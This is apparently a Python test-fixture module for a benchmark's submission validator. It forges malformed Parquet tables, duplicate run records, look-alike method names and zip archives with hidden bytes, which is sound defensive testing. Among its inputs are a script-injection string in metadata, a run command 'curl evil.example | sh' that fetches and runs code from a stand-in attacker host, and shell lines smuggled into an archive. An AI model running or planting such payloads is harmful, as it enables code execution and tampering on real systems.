"""Forgeries in what is easily overlooked: metadata, further files, one thing said twice, names like those of others."""

from __future__ import annotations

import json
import struct
from collections.abc import Callable, Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from forged_archives import zipped
from forging import EVIL, Forge, Forger, relisting

from xaibench.files import write_json
from xaibench.hashing import digest

Change = Callable[[pa.Table], pa.Table]
LOOK_ALIKES = ("IXG", "Grad-Cam", "grad_cam", "ig.u", "Saliency", "RISE", "Random")


def _column(name: str, change: Callable[[pa.ChunkedArray], pa.Array | pa.ChunkedArray]) -> Change:
    return lambda t: t.set_column(t.schema.get_field_index(name), name, change(t[name]))


def _metadata(**more: str) -> Change:
    return lambda t: t.replace_schema_metadata({**t.schema.metadata, **{k: v.encode() for k, v in more.items()}})


def _described(t: pa.Table) -> pa.Table:
    fields = [field.with_metadata({b"description": b"<script>alert(1)</script>"}) for field in t.schema]
    return t.cast(pa.schema(fields, t.schema.metadata))


TABLES: dict[str, Change] = {
    "scores in lists": _column("score", lambda c: pa.array([[value] for value in c.to_pylist()])),
    "scores in structures": _column("score", lambda c: pa.array([{"x": value} for value in c.to_pylist()])),
    "images in a dictionary": _column("image_id", lambda c: c.combine_chunks().dictionary_encode()),
    "images as bytes": _column("image_id", lambda c: c.cast(pa.binary())),
    "large texts": _column("image_id", lambda c: c.cast(pa.large_string())),
    "scores in half precision": _column("score", lambda c: pa.array(c.to_numpy().astype("float16"))),
    "scores in single precision": _column("score", lambda c: c.cast(pa.float32())),
    "targets as texts": _column("target", lambda c: c.cast(pa.string())),
    "a column without values": lambda t: t.append_column("bonus", pa.nulls(t.num_rows)),
    "a column twice": lambda t: t.append_column("score", t["score"]),
    "a column of another case": lambda t: t.append_column("Score", t["score"]),
    "huge metadata": _metadata(note="x" * (5 << 20)),
    "script in metadata": _metadata(note="<script>alert(1)</script>"),
    "metadata of pandas": _metadata(pandas='{"index_columns": ["score"]}'),
    "script in the description of a column": _described,
}


def _written(**options: object) -> Callable[[Forger], None]:
    return lambda f: pq.write_table(pq.read_table(f.rows("mine")), f.rows("mine"), **options)


def _moved(folder: str, copy: bool) -> Callable[[Forger], None]:
    def change(f: Forger) -> None:
        path = f.rows("mine")
        to = f.root / "rows" / folder / path.name
        to.parent.mkdir(parents=True, exist_ok=True)
        to.write_bytes(path.read_bytes())
        if not copy:
            path.unlink()

    return change


def _another_run(**fields: object) -> Callable[[Forger], None]:
    """A second record of a run beside the sound one."""

    def change(f: Forger) -> None:
        path = next(f.root.glob("runs/*.json"))
        value = json.loads(path.read_text()) | {"run": "20991231T235959Z-ffffff"} | fields
        write_json(f.root / "runs" / f"{value['run']}.json", value)

    return change


def _shorter_run(f: Forger) -> None:
    ids = f.images()[:1]
    write_json(f.root / "lists" / f"{digest(ids)}.json", ids)
    _another_run(status="failed", images={"list": digest(ids), "count": 1})(f)


def _twice(f: Forger) -> None:
    """A cell that says its seed twice: readers differ in which counts."""
    path, _ = f.cell("mine")
    path.write_text(path.read_text().replace('"seed": 0', '"seed": 7, "seed": 0'))


def _renamed(name: str) -> Forge:
    """The method under a name that looks like one of xaibench."""

    def forge(root: Path, relist: Callable[[Path], None]) -> Path:
        f = Forger(root)
        f.rekey("mine", lambda value: value["method"].update(name=name))
        f.column(name, "method", lambda values: [name] * len(values))
        value = json.loads((root / "submission.json").read_text())
        (root / "submission.json").write_text(json.dumps(value | {"methods": [name]}))
        relist(root)
        return root

    return forge


def _hidden_bytes(root: Path, relist: Callable[[Path], None]) -> Path:
    """Bytes between the last file of an archive and its directory, which no reader shows."""
    path = zipped(root)
    data = path.read_bytes()
    at, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    place = struct.unpack("<I", data[end + 16 : end + 20])[0]
    hidden = b"#!/bin/sh\n" * 100
    moved = data[end : end + 16] + struct.pack("<I", place + len(hidden)) + data[end + 20 :]
    path.write_bytes(data[:at] + hidden + data[at:end] + moved)
    return path


def details(folder: Path) -> Iterator[tuple[str, str, Forge]]:
    """All of them."""
    kind = "wrong or huge Parquet"
    for method in ("mine", "ixg"):
        for name, change in TABLES.items():
            yield kind, f"{method}: {name}", relisting(lambda f, m=method, c=change: f.table(m, c))
    yield kind, "rows that unpack to gigabytes", relisting(_many_rows)
    yield kind, "old time stamps", relisting(_written(version="1.0", store_schema=False))
    for name in ("idsds/vgg16", "sds/resnet18", "x/y"):
        yield "rows elsewhere", f"in {name}", relisting(_moved(name, copy=False))
        yield "rows elsewhere", f"also in {name}", relisting(_moved(name, copy=True))
    runs: dict[str, Callable[[Forger], None]] = {
        "a later run that failed": _another_run(status="failed"),
        "a later run of fewer images": _shorter_run,
        "a later run of nothing": _another_run(cells=[]),
        "a run of another name than its file": lambda f: f.run(lambda run: run.update(run="20260101T000000Z-000000")),
        "a run that begins in the future": lambda f: f.run(lambda run: run.update(started="2999-01-01T00:00:00+00:00")),
        "a result of the future": lambda f: f.write("mine", lambda v: v.update(registered="2999-01-01T00:00:00+00:00")),
        "more fields": lambda f: f.run(lambda run: run.update(verified=True)),
        "a command of a shell": lambda f: f.run(lambda run: run.update(command="curl evil.example | sh")),
        "costs below 0": lambda f: f.run(lambda run: run.update(costs={"ixg": dict.fromkeys(("images", "maps"), -1)})),
    }
    for name, change in runs.items():
        yield "records of runs", name, relisting(change)
    for text in EVIL:
        for field in ("device", "precision", "git_commit"):
            yield ("names with scripts and escapes", f"{field} {text!a}",
                   relisting(lambda f, t=text, n=field: f.run(lambda run: run.update({n: t}))))  # fmt: skip
        yield ("names with scripts and escapes", f"version {text!a}",
               relisting(lambda f, t=text: f.run(lambda run: run.update(versions={t: t}))))  # fmt: skip
        yield ("names with scripts and escapes", f"costs {text!a}",
               relisting(lambda f, t=text: f.run(lambda run: run.update(costs={t: COSTS}))))  # fmt: skip
        yield ("names with scripts and escapes", f"training {text!a}",
               relisting(lambda f, t=text: f.run(lambda run: run.update(training={"name": t}))))  # fmt: skip
    yield "one thing said twice", "the seed of a cell", relisting(_twice)
    yield "one thing said twice", "a list that no run has", relisting(_list_of_nobody)
    for name in LOOK_ALIKES:
        yield "names that look like others", name, _renamed(name)
    yield "other code", "huge", relisting(lambda f: (f.root / "source/plugin_mine.py").write_text("x = 1\n" * 500_000))
    yield "packed otherwise", "hidden bytes", _hidden_bytes


COSTS = {"images": 1, "maps": 1, "forward_equivalents_alone": 1.0, "forward_equivalents_shared": 1.0,
         "seconds_alone": 1.0, "seconds_shared": 1.0}  # fmt: skip


def _many_rows(f: Forger) -> None:
    """Few bytes, many rows."""
    table = pq.read_table(f.rows("mine"))
    many = pa.concat_tables([table.slice(0, 1)] * 200_000)
    pq.write_table(many, f.rows("mine"), compression="zstd")


def _list_of_nobody(f: Forger) -> None:
    ids = ["test/000001"]
    write_json(f.root / "lists" / f"{digest(ids)}.json", ids)
